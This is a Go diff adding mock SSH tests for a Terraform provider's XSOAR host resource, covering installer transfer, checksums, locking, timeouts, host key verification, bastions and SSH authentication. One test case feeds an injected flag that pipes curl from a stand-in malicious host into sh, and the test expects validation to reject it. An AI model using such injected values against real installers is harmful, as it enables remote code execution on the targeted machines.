@@ -2,15 +2,28 @@ package xsoar
 
 import (
 	"context"
+	"crypto/ecdsa"
+	"crypto/rand"
+	"crypto/x509"
+	"encoding/pem"
 	"fmt"
-	"github.com/hashicorp/terraform-plugin-framework/tfsdk"
+	"github.com/hashicorp/terraform-plugin-framework/providerserver"
 	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/acctest"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/resource"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/terraform"
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/agent"
+	"golang.org/x/crypto/ssh/knownhosts"
+	"net"
 	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"regexp"
 	"strings"
 	"testing"
+	"time"
 )
 
 func TestAccHost_basic(t *testing.T) {
@@ -19,7 +32,7 @@ func TestAccHost_basic(t *testing.T) {
 		PreCheck: func() { testAccHostResourcePreCheck(t) },
 		ProtoV6ProviderFactories: map[string]func() (tfprotov6.ProviderServer, error){
 			"xsoar": func() (tfprotov6.ProviderServer, error) {
-				return tfsdk.NewProtocol6Server(New()), nil
+				return providerserver.NewProtocol6WithError(New()())()
 			},
 		},
 		CheckDestroy: testAccCheckHostResourceDestroy(rName),
@@ -43,6 +56,731 @@ func TestAccHost_basic(t *testing.T) {
 	})
 }
 
+func TestHost_mock(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+
+	// standalone host with its own elasticsearch
+	r := tf.resource("xsoar_host")
+	r.mustApply(map[string]interface{}{
+		"name":              "mockhost",
+		"server_url":        s.Addr(),
+		"ssh_user":          "vagrant",
+		"ssh_key":           s.clientKey,
+		"host_key":          s.HostKey(),
+		"elasticsearch_url": "http://elastic.xsoar.local:9200",
+	})
+	host := m.host("mockhost")
+	if host == nil {
+		t.Fatal("host was not registered")
+	}
+	if r.attrString("id") != host["id"] {
+		t.Fatalf("host ID created (%s) did not match state (%s)", host["id"], r.attrString("id"))
+	}
+	if r.attr("ha_group_name") != nil {
+		t.Fatalf("standalone host reported HA group %v", r.attr("ha_group_name"))
+	}
+	if r.attrString("observed_host_key") != s.HostKey() {
+		t.Fatalf("expected observed host key %s, got %s", s.HostKey(), r.attrString("observed_host_key"))
+	}
+	r.mustImport("mockhost", "server_url", "ssh_user", "ssh_key", "host_key", "observed_host_key", "nfs_mount", "installation_timeout", "extra_flags")
+
+	// extra flags can be changed in place
+	r.mustApply(map[string]interface{}{
+		"name":              "mockhost",
+		"server_url":        s.Addr(),
+		"ssh_user":          "vagrant",
+		"ssh_key":           s.clientKey,
+		"host_key":          s.HostKey(),
+		"elasticsearch_url": "http://elastic.xsoar.local:9200",
+		"extra_flags":       []string{"-do-not-start-server"},
+	})
+	if r.attrString("id") != host["id"] {
+		t.Fatal("host was replaced when it should have been updated")
+	}
+	r.mustDestroy()
+	if m.host("mockhost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+
+	// host in an HA group
+	groupId := m.addHAGroup("mockgroup")
+	r = tf.resource("xsoar_host")
+	r.mustApply(map[string]interface{}{
+		"name":          "mockhahost",
+		"ha_group_name": "mockgroup",
+		"server_url":    s.Addr(),
+		"ssh_user":      "vagrant",
+		"ssh_key":       s.clientKey,
+		"host_key":      s.HostKey(),
+	})
+	host = m.host("mockhahost")
+	if host == nil || host["hostGroupId"] != groupId {
+		t.Fatalf("host was not installed into HA group %s: %v", groupId, host)
+	}
+	if r.attrString("ha_group_name") != "mockgroup" {
+		t.Fatalf("expected HA group mockgroup, got %s", r.attrString("ha_group_name"))
+	}
+	r.mustImport("mockhahost", "server_url", "ssh_user", "ssh_key", "host_key", "observed_host_key", "nfs_mount", "installation_timeout", "extra_flags", "elasticsearch_url")
+	r.mustDestroy()
+	if m.host("mockhahost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+
+	var purged bool
+	for _, command := range s.Commands() {
+		if strings.Contains(command, "/installer.sh' -- -purge -y") {
+			purged = true
+		}
+	}
+	if !purged {
+		t.Fatal("installer was not run with -purge on destroy")
+	}
+
+	// a host removed outside of terraform is removed from state on refresh, without waiting for it
+	r = tf.resource("xsoar_host")
+	r.mustApply(map[string]interface{}{
+		"name":              "mockgonehost",
+		"server_url":        s.Addr(),
+		"ssh_user":          "vagrant",
+		"ssh_key":           s.clientKey,
+		"host_key":          s.HostKey(),
+		"elasticsearch_url": "http://elastic.xsoar.local:9200",
+	})
+	m.removeHost("mockgonehost")
+	start := time.Now()
+	if err := r.refresh(); err != nil {
+		t.Fatal(err)
+	}
+	if !r.state.IsNull() {
+		t.Fatal("expected the removed host to be removed from state")
+	}
+	if elapsed := time.Since(start); elapsed > 5*time.Second {
+		t.Fatalf("reading the removed host took %s", elapsed)
+	}
+	err := r.importState("mockgonehost")
+	if err == nil || !strings.Contains(err.Error(), "No host is named mockgonehost") {
+		t.Fatalf("expected importing a missing host to fail, got %v", err)
+	}
+	for _, command := range s.Commands() {
+		if strings.Contains(command, "curl") {
+			t.Fatalf("the installer was not uploaded by default: %s", command)
+		}
+	}
+	if len(s.Files()) != 0 {
+		t.Fatal("installer was left on the machine")
+	}
+}
+
+func TestHost_mockUpload(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+	config := map[string]interface{}{
+		"name":               "mockhost",
+		"server_url":         s.Addr(),
+		"ssh_user":           "vagrant",
+		"ssh_key":            s.clientKey,
+		"host_key":           s.HostKey(),
+		"elasticsearch_url":  "http://elastic.xsoar.local:9200",
+		"installer_transfer": "upload",
+	}
+
+	// an upload that does not match the installer downloaded is not run
+	s.corruptUploads = true
+	err := tf.resource("xsoar_host").apply(config)
+	if err == nil || !strings.Contains(err.Error(), "checksum") {
+		t.Fatalf("expected a checksum mismatch, got %v", err)
+	}
+	if m.host("mockhost") != nil {
+		t.Fatal("host was installed from a corrupted installer")
+	}
+	if len(s.Files()) != 0 {
+		t.Fatal("corrupted installer was left on the machine")
+	}
+	s.corruptUploads = false
+
+	r := tf.resource("xsoar_host")
+	r.mustApply(config)
+	if m.host("mockhost") == nil {
+		t.Fatal("host was not registered")
+	}
+	if len(s.Files()) != 0 {
+		t.Fatal("installer was left on the machine")
+	}
+	// the upload is given to root in a directory root made, and checked again right before it runs as root
+	var rootDir, staged string
+	var installed, verified bool
+	for i, command := range s.Commands() {
+		switch {
+		case command == "sudo mktemp -d":
+			rootDir = "/tmp/tmp.root"
+		case strings.HasPrefix(command, "scp -qt '/tmp/tmp.user"):
+			staged = strings.Trim(strings.TrimPrefix(command, "scp -qt "), "'")
+		case strings.HasPrefix(command, "sudo install -o root -g root -m 0700 "+shellQuote(staged)+" '"+rootDir):
+			installed = len(staged) > 0 && len(rootDir) > 0
+		case strings.HasPrefix(command, "sudo '"+rootDir) && strings.Contains(command, "/installer.sh' -- -y"):
+			verified = strings.HasPrefix(s.Commands()[i-1], "sudo sha256sum '"+rootDir)
+		}
+	}
+	if !installed || !verified {
+		t.Fatalf("expected the installer to be run from a directory of root after checking it, got %v", s.Commands())
+	}
+	r.mustImport("mockhost", "server_url", "ssh_user", "ssh_key", "host_key", "observed_host_key", "installer_transfer")
+	r.mustDestroy()
+	if m.host("mockhost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+
+	var uploads int
+	for _, command := range s.Commands() {
+		if strings.Contains(command, mockAPIKey) || strings.Contains(command, "curl") {
+			t.Fatalf("the machine downloaded the installer itself: %s", command)
+		}
+		if strings.HasPrefix(command, "scp -qt ") {
+			uploads++
+		}
+	}
+	if uploads != 3 {
+		t.Fatalf("expected the installer to be uploaded on each of the three runs, got %d uploads", uploads)
+	}
+}
+
+func TestHost_mockDownload(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+
+	// the machine downloads the installer itself, reading the API key from stdin
+	r := tf.resource("xsoar_host")
+	r.mustApply(map[string]interface{}{
+		"name":               "mockhost",
+		"server_url":         s.Addr(),
+		"ssh_user":           "vagrant",
+		"ssh_key":            s.clientKey,
+		"host_key":           s.HostKey(),
+		"elasticsearch_url":  "http://elastic.xsoar.local:9200",
+		"installer_transfer": "download",
+	})
+	if m.host("mockhost") == nil {
+		t.Fatal("host was not registered")
+	}
+	if len(s.Files()) != 0 {
+		t.Fatal("installer was left on the machine")
+	}
+	r.mustDestroy()
+	if m.host("mockhost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+
+	var downloads int
+	for _, command := range s.Commands() {
+		if strings.Contains(command, mockAPIKey) {
+			t.Fatalf("the API key was passed on the command line: %s", command)
+		}
+		if strings.Contains(command, "curl") {
+			downloads++
+		}
+	}
+	if downloads != 2 {
+		t.Fatalf("expected the machine to download the installer on create and destroy, got %d downloads", downloads)
+	}
+}
+
+func TestHost_mockInstallerOptions(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	m.addHAGroup("mockgroup")
+	tf := newMockTerraform(t, m)
+	config := func(settings map[string]interface{}) map[string]interface{} {
+		config := map[string]interface{}{
+			"name":              "mockhost",
+			"server_url":        s.Addr(),
+			"ssh_user":          "vagrant",
+			"ssh_key":           s.clientKey,
+			"host_key":          s.HostKey(),
+			"elasticsearch_url": "http://elastic.xsoar.local:9200",
+		}
+		for key, value := range settings {
+			config[key] = value
+		}
+		return config
+	}
+
+	testCases := []struct {
+		name     string
+		settings map[string]interface{}
+		err      string
+	}{
+		{"injected flag", map[string]interface{}{"extra_flags": []string{"-y; curl evil.example.com | sh"}}, "Invalid extra flag"},
+		{"reserved flag", map[string]interface{}{"extra_flags": []string{"-elasticsearch-url=http://other:9200"}}, "is set by the elasticsearch_url attribute"},
+		{"reserved double dash flag", map[string]interface{}{"extra_flags": []string{"--elasticsearch-password=secret"}}, "is set by the elasticsearch_password attribute"},
+		{"multiline password", map[string]interface{}{"elasticsearch_username": "elastic", "elasticsearch_password": "pass\nword"}, "must be a single line"},
+		{"relative temp folder", map[string]interface{}{"temp_folder": "tmp/demisto"}, "Invalid Path"},
+		{"username without password", map[string]interface{}{"elasticsearch_username": "elastic"}, "must be set together"},
+		{"reserved username flag", map[string]interface{}{"extra_flags": []string{"-elasticsearch-username=elastic"}}, "is set by the elasticsearch_username attribute"},
+		{"elasticsearch of HA group", map[string]interface{}{"ha_group_name": "mockgroup", "elasticsearch_username": "elastic", "elasticsearch_password": "secret"}, "set on the xsoar_ha_group"},
+	}
+	for _, tc := range testCases {
+		err := tf.resource("xsoar_host").apply(config(tc.settings))
+		if err == nil || !strings.Contains(err.Error(), tc.err) {
+			t.Fatalf("%s: expected error containing %q, got %v", tc.name, tc.err, err)
+		}
+	}
+	if len(s.Commands()) != 0 {
+		t.Fatalf("ran commands for an invalid config: %v", s.Commands())
+	}
+
+	r := tf.resource("xsoar_host")
+	r.mustApply(config(map[string]interface{}{
+		"temp_folder":            "/opt/it's here",
+		"elasticsearch_username": "elastic",
+		"elasticsearch_password": "pa$$ `word`",
+		"extra_flags":            []string{"-multi-tenant", "-foo=a b'c", "--bar='quoted value'"},
+	}))
+	if m.host("mockhost") == nil {
+		t.Fatal("host was not registered")
+	}
+	var install, password string
+	for _, command := range s.Commands() {
+		if strings.Contains(command, "pa$$") {
+			t.Fatalf("the Elasticsearch password was passed on the command line: %s", command)
+		}
+		if prefix := "/installer.sh' -- -y"; strings.HasPrefix(command, "IFS= read -r ") && strings.Contains(command, prefix) {
+			install = command[:strings.Index(command, "sudo '")] + `printf '%s\n'` + command[strings.Index(command, prefix)+len(prefix)-len(" -y"):]
+			password = s.Stdin(command)
+		}
+	}
+	if password != "pa$$ `word`\n" {
+		t.Fatalf("expected the installer command to read the Elasticsearch password from stdin, got %q", password)
+	}
+	// the shell of the machine must see each value as the single word it was given as, the password included
+	cmd := exec.Command("sh", "-c", install)
+	cmd.Stdin = strings.NewReader(password)
+	output, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	expected := []string{
+		"-y",
+		"-external-address=mockhost",
+		"-elasticsearch-url=http://elastic.xsoar.local:9200",
+		"-temp-folder=/opt/it's here",
+		"-elasticsearch-username=elastic",
+		"-multi-tenant",
+		"-foo=a b'c",
+		"-bar=quoted value",
+		"-elasticsearch-password=pa$$ `word`",
+	}
+	if words := strings.Split(strings.TrimSuffix(string(output), "\n"), "\n"); !reflect.DeepEqual(words, expected) {
+		t.Fatalf("expected the installer to be run with %q, got %q", expected, words)
+	}
+	r.mustDestroy()
+}
+
+func TestHost_mockInstallLock(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	m.addHAGroup("mockgroup")
+	tf := newMockTerraform(t, m)
+	const lock = "/mnt/nfs/xsoar_host_install.lock"
+	config := func(name string, settings map[string]interface{}) map[string]interface{} {
+		config := map[string]interface{}{
+			"name":          name,
+			"ha_group_name": "mockgroup",
+			"nfs_mount":     "/mnt/nfs",
+			"server_url":    s.Addr(),
+			"ssh_user":      "vagrant",
+			"ssh_key":       s.clientKey,
+			"host_key":      s.HostKey(),
+		}
+		for key, value := range settings {
+			config[key] = value
+		}
+		return config
+	}
+
+	err := tf.resource("xsoar_host").apply(config("mockhost", map[string]interface{}{"nfs_lock_ttl": "soon"}))
+	if err == nil || !strings.Contains(err.Error(), "Invalid Duration") {
+		t.Fatalf("expected an invalid duration error, got %v", err)
+	}
+
+	// the lock is held while the installer runs, and released once the host joined
+	r := tf.resource("xsoar_host")
+	r.mustApply(config("mockhost", nil))
+	var acquired, installed, released int
+	for i, command := range s.Commands() {
+		switch {
+		case strings.HasPrefix(command, "sudo mkdir '"+lock+"' && "):
+			acquired = i
+		case strings.HasPrefix(command, "sudo '") && strings.Contains(command, "/installer.sh' -- -y"):
+			installed = i
+		case strings.HasPrefix(command, "if sudo grep -qxF 'token="):
+			released = i
+		}
+	}
+	if !(0 < acquired && acquired < installed && installed < released) {
+		t.Fatalf("expected the installer to run while holding the lock, got %v", s.Commands())
+	}
+	if _, held := s.Locked(lock); held {
+		t.Fatal("lock was not released")
+	}
+	r.mustDestroy()
+
+	// a lock held by another install is waited for, and taken over once it is older than nfs_lock_ttl
+	s.holdLock(lock, "otherhost", "0123", time.Now())
+	start := time.Now()
+	r = tf.resource("xsoar_host")
+	r.mustApply(config("mockhost", map[string]interface{}{"nfs_lock_ttl": "2s"}))
+	if elapsed := time.Since(start); elapsed < time.Second {
+		t.Fatalf("took over a lock %s old", elapsed)
+	}
+	if _, held := s.Locked(lock); held {
+		t.Fatal("lock was not released")
+	}
+	r.mustDestroy()
+
+	// a lock left behind by a previous version of the provider records no owner, and is as old as the lock file
+	s.holdLock(lock, "", "", time.Now().Add(-2*time.Hour))
+	r = tf.resource("xsoar_host")
+	r.mustApply(config("mockhost", nil))
+	if _, held := s.Locked(lock); held {
+		t.Fatal("lock was not released")
+	}
+	r.mustDestroy()
+
+	// an install gives up waiting on a lock that is not stale at its create timeout, leaving the lock alone
+	s.holdLock(lock, "otherhost", "0123", time.Now())
+	err = tf.resource("xsoar_host").apply(config("mockhost", map[string]interface{}{
+		"timeouts": []interface{}{map[string]interface{}{"create": "2s"}},
+	}))
+	if err == nil || !strings.Contains(err.Error(), "held by otherhost") {
+		t.Fatalf("expected the install to time out waiting for the lock, got %v", err)
+	}
+	if owner, _ := s.Locked(lock); !strings.Contains(owner, "token=0123") {
+		t.Fatalf("expected the lock of otherhost to be held, got %q", owner)
+	}
+	if m.host("mockhost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+
+	// the lock is released when the installer is interrupted
+	s.holdLock(lock, "otherhost", "0123", time.Now().Add(-2*time.Hour))
+	s.hang = regexp.MustCompile(`installer\.sh' -- -y`)
+	err = tf.resource("xsoar_host").apply(config("mockhost", map[string]interface{}{
+		"timeouts": []interface{}{map[string]interface{}{"create": "2s"}},
+	}))
+	if err == nil || !strings.Contains(err.Error(), "context deadline exceeded") {
+		t.Fatalf("expected the install to time out, got %v", err)
+	}
+	if _, held := s.Locked(lock); held {
+		t.Fatal("lock of an interrupted install was not released")
+	}
+}
+
+func TestHost_mockTimeouts(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+	config := map[string]interface{}{
+		"name":              "mockhost",
+		"server_url":        s.Addr(),
+		"ssh_user":          "vagrant",
+		"ssh_key":           s.clientKey,
+		"host_key":          s.HostKey(),
+		"elasticsearch_url": "http://elastic.xsoar.local:9200",
+	}
+
+	// the durations are validated
+	config["timeouts"] = []interface{}{map[string]interface{}{"create": "soon"}}
+	err := tf.resource("xsoar_host").apply(config)
+	if err == nil || !strings.Contains(err.Error(), "Invalid Duration") {
+		t.Fatalf("expected an invalid duration error, got %v", err)
+	}
+
+	// an installer still running at the create timeout is interrupted
+	s.hang = regexp.MustCompile(`installer\.sh' -- -y`)
+	config["timeouts"] = []interface{}{map[string]interface{}{"create": "2s"}}
+	start := time.Now()
+	err = tf.resource("xsoar_host").apply(config)
+	if err == nil || !strings.Contains(err.Error(), "context deadline exceeded") {
+		t.Fatalf("expected the install to time out, got %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > 30*time.Second {
+		t.Fatalf("install ran for %s past its timeout", elapsed)
+	}
+	if len(s.Interrupted()) != 1 {
+		t.Fatalf("expected the installer to be interrupted, got %v", s.Interrupted())
+	}
+	if m.host("mockhost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+}
+
+func TestHost_mockHostKey(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+	config := func(settings map[string]interface{}) map[string]interface{} {
+		config := map[string]interface{}{
+			"name":              "mockhost",
+			"server_url":        s.Addr(),
+			"ssh_user":          "vagrant",
+			"ssh_key":           s.clientKey,
+			"elasticsearch_url": "http://elastic.xsoar.local:9200",
+		}
+		for key, value := range settings {
+			config[key] = value
+		}
+		return config
+	}
+	knownHosts := filepath.Join(t.TempDir(), "known_hosts")
+	err := os.WriteFile(knownHosts, []byte(knownhosts.Line([]string{s.Addr()}, s.hostKey.PublicKey())+"\n"), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherKey := newMockSSHServer(t, m).HostKey()
+
+	testCases := []struct {
+		name     string
+		settings map[string]interface{}
+		err      string
+	}{
+		{"no verification", map[string]interface{}{}, "which nothing verifies"},
+		{"host key", map[string]interface{}{"host_key": s.HostKey()}, ""},
+		{"wrong host key", map[string]interface{}{"host_key": otherKey}, "which is not host_key"},
+		{"invalid host key", map[string]interface{}{"host_key": "not a key"}, "Invalid host key"},
+		{"fingerprint", map[string]interface{}{"host_key_fingerprint": ssh.FingerprintSHA256(s.hostKey.PublicKey())}, ""},
+		{"wrong fingerprint", map[string]interface{}{"host_key_fingerprint": "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s"}, "expected SHA256:uNiV"},
+		{"invalid fingerprint", map[string]interface{}{"host_key_fingerprint": "aa:bb:cc"}, "Invalid host key fingerprint"},
+		{"known hosts", map[string]interface{}{"known_hosts_file": knownHosts}, ""},
+		{"invalid mode", map[string]interface{}{"host_key_checking": "off"}, "Value must be one of"},
+	}
+	for _, tc := range testCases {
+		r := tf.resource("xsoar_host")
+		err := r.apply(config(tc.settings))
+		if tc.err == "" {
+			if err != nil {
+				t.Fatalf("%s: %s", tc.name, err)
+			}
+			r.mustDestroy()
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tc.err) {
+			t.Fatalf("%s: expected error containing %q, got %v", tc.name, tc.err, err)
+		}
+		if m.host("mockhost") != nil {
+			t.Fatalf("%s: host was installed on an unverified machine", tc.name)
+		}
+	}
+
+	// trust on first use records the key and rejects any other afterwards
+	r := tf.resource("xsoar_host")
+	r.mustApply(config(map[string]interface{}{"host_key_checking": "tofu"}))
+	if r.attrString("observed_host_key") != s.HostKey() {
+		t.Fatalf("expected observed host key %s, got %s", s.HostKey(), r.attrString("observed_host_key"))
+	}
+	s.rotateHostKey()
+	err = r.destroy()
+	if err == nil || !strings.Contains(err.Error(), "recorded on first use") {
+		t.Fatalf("expected a host key mismatch, got %v", err)
+	}
+	if m.host("mockhost") == nil {
+		t.Fatal("host was purged through an unverified machine")
+	}
+}
+
+func TestHost_mockBastion(t *testing.T) {
+	t.Parallel()
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	bastion := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+	config := func(bastionHostKey string) map[string]interface{} {
+		return map[string]interface{}{
+			"name":              "mockhost",
+			"server_url":        s.Addr(),
+			"ssh_user":          "vagrant",
+			"ssh_key":           s.clientKey,
+			"host_key":          s.HostKey(),
+			"elasticsearch_url": "http://elastic.xsoar.local:9200",
+			"bastion": []interface{}{map[string]interface{}{
+				"host":     bastion.Addr(),
+				"user":     "jump",
+				"ssh_key":  bastion.clientKey,
+				"host_key": bastionHostKey,
+			}},
+		}
+	}
+
+	// the bastion host key is verified before anything is tunneled through it
+	r := tf.resource("xsoar_host")
+	err := r.apply(config(s.HostKey()))
+	if err == nil || !strings.Contains(err.Error(), "host key of bastion") {
+		t.Fatalf("expected the bastion host key to be rejected, got %v", err)
+	}
+	if len(bastion.Forwarded()) != 0 {
+		t.Fatalf("tunneled through an unverified bastion to %v", bastion.Forwarded())
+	}
+
+	r.mustApply(config(bastion.HostKey()))
+	if m.host("mockhost") == nil {
+		t.Fatal("host was not registered")
+	}
+	r.mustDestroy()
+	if m.host("mockhost") != nil {
+		t.Fatal("found host when none was expected")
+	}
+	forwarded := bastion.Forwarded()
+	if len(forwarded) != 2 || forwarded[0] != s.Addr() || forwarded[1] != s.Addr() {
+		t.Fatalf("expected create and destroy to tunnel to %s, got %v", s.Addr(), forwarded)
+	}
+	if len(s.Forwarded()) != 0 {
+		t.Fatalf("host tunneled to %v", s.Forwarded())
+	}
+
+	// the key of the bastion can be trusted on first use, and is then recorded like the key of the host
+	tofu := config("")
+	bastionConfig := tofu["bastion"].([]interface{})[0].(map[string]interface{})
+	delete(bastionConfig, "host_key")
+	bastionConfig["host_key_checking"] = "tofu"
+	r.mustApply(tofu)
+	observed := r.attr("bastion").([]interface{})[0].(map[string]interface{})["observed_host_key"]
+	if observed != bastion.HostKey() {
+		t.Fatalf("expected observed bastion host key %s, got %v", bastion.HostKey(), observed)
+	}
+	bastion.rotateHostKey()
+	err = r.destroy()
+	if err == nil || !strings.Contains(err.Error(), "host key of bastion") || !strings.Contains(err.Error(), "recorded on first use") {
+		t.Fatalf("expected a bastion host key mismatch, got %v", err)
+	}
+}
+
+// TestHost_mockSSHAuth is not parallel, as it points SSH_AUTH_SOCK at a test agent
+func TestHost_mockSSHAuth(t *testing.T) {
+	m := newMockXSOAR(t)
+	s := newMockSSHServer(t, m)
+	tf := newMockTerraform(t, m)
+	config := func(settings map[string]interface{}) map[string]interface{} {
+		config := map[string]interface{}{
+			"name":              "mockhost",
+			"server_url":        s.Addr(),
+			"ssh_user":          "vagrant",
+			"host_key":          s.HostKey(),
+			"elasticsearch_url": "http://elastic.xsoar.local:9200",
+		}
+		for key, value := range settings {
+			config[key] = value
+		}
+		return config
+	}
+
+	clientKey, err := ssh.ParseRawPrivateKey([]byte(s.clientKey))
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.MarshalECPrivateKey(clientKey.(*ecdsa.PrivateKey))
+	if err != nil {
+		t.Fatal(err)
+	}
+	encrypted, err := x509.EncryptPEMBlock(rand.Reader, "EC PRIVATE KEY", der, []byte("secret"), x509.PEMCipherAES256)
+	if err != nil {
+		t.Fatal(err)
+	}
+	encryptedKey := string(pem.EncodeToMemory(encrypted))
+	certifiedKey, certificate := s.trustUserCA("vagrant")
+
+	keyring := agent.NewKeyring()
+	if err = keyring.Add(agent.AddedKey{PrivateKey: clientKey}); err != nil {
+		t.Fatal(err)
+	}
+	socketDir, err := os.MkdirTemp("", "agent")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(socketDir) })
+	listener, err := net.Listen("unix", filepath.Join(socketDir, "agent.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = listener.Close() })
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				_ = agent.ServeAgent(keyring, conn)
+			}()
+		}
+	}()
+	t.Setenv("SSH_AUTH_SOCK", listener.Addr().String())
+
+	testCases := []struct {
+		name     string
+		settings map[string]interface{}
+		err      string
+	}{
+		{"no key", map[string]interface{}{}, "Missing ssh key"},
+		{"encrypted key", map[string]interface{}{"ssh_key": encryptedKey}, "no passphrase is set"},
+		{"wrong passphrase", map[string]interface{}{"ssh_key": encryptedKey, "ssh_key_passphrase": "wrong"}, "could not parse ssh key"},
+		{"passphrase", map[string]interface{}{"ssh_key": encryptedKey, "ssh_key_passphrase": "secret"}, ""},
+		{"passphrase without key", map[string]interface{}{"ssh_agent": true, "ssh_key_passphrase": "secret"}, "Invalid ssh key passphrase"},
+		{"certificate", map[string]interface{}{"ssh_key": certifiedKey, "ssh_certificate": certificate}, ""},
+		{"uncertified key", map[string]interface{}{"ssh_key": certifiedKey, "timeouts": []interface{}{map[string]interface{}{"create": "2s"}}}, "unable to authenticate"},
+		{"invalid certificate", map[string]interface{}{"ssh_key": certifiedKey, "ssh_certificate": s.HostKey()}, "Invalid ssh certificate"},
+		{"agent", map[string]interface{}{"ssh_agent": true}, ""},
+	}
+	for _, tc := range testCases {
+		r := tf.resource("xsoar_host")
+		err := r.apply(config(tc.settings))
+		if tc.err == "" {
+			if err != nil {
+				t.Fatalf("%s: %s", tc.name, err)
+			}
+			r.mustDestroy()
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tc.err) {
+			t.Fatalf("%s: expected error containing %q, got %v", tc.name, tc.err, err)
+		}
+	}
+
+	// the agent only authenticates unless it is forwarded
+	for _, command := range s.Commands() {
+		if _, ok := s.AgentKeys(command); ok {
+			t.Fatalf("expected the agent not to be forwarded to %q", command)
+		}
+	}
+	ran := len(s.Commands())
+	r := tf.resource("xsoar_host")
+	r.mustApply(config(map[string]interface{}{"ssh_key": s.clientKey, "ssh_agent_forwarding": true}))
+	r.mustDestroy()
+	clientPublicKey, err := ssh.NewPublicKey(&clientKey.(*ecdsa.PrivateKey).PublicKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	commands := s.Commands()[ran:]
+	if len(commands) == 0 {
+		t.Fatal("expected commands to run with the agent forwarded")
+	}
+	for _, command := range commands {
+		keys, ok := s.AgentKeys(command)
+		if !ok || len(keys) != 1 || keys[0] != string(ssh.MarshalAuthorizedKey(clientPublicKey)) {
+			t.Fatalf("expected the agent to be forwarded to %q, got %v", command, keys)
+		}
+	}
+}
+
 func testAccHostResourcePreCheck(t *testing.T) {}
 
 func testAccCheckHostResourceExists(r string) resource.TestCheckFunc {
@@ -98,6 +836,8 @@ resource "xsoar_host" "{name}" {
   server_url = "{host}:22"
   ssh_user   = "vagrant"
   ssh_key    = file("{keyfile}")
+
+  host_key_checking = "tofu"
 }`
 	c = strings.Replace(c, "{name}", name, -1)
 	c = strings.Replace(c, "{keyfile}", keyfile, -1)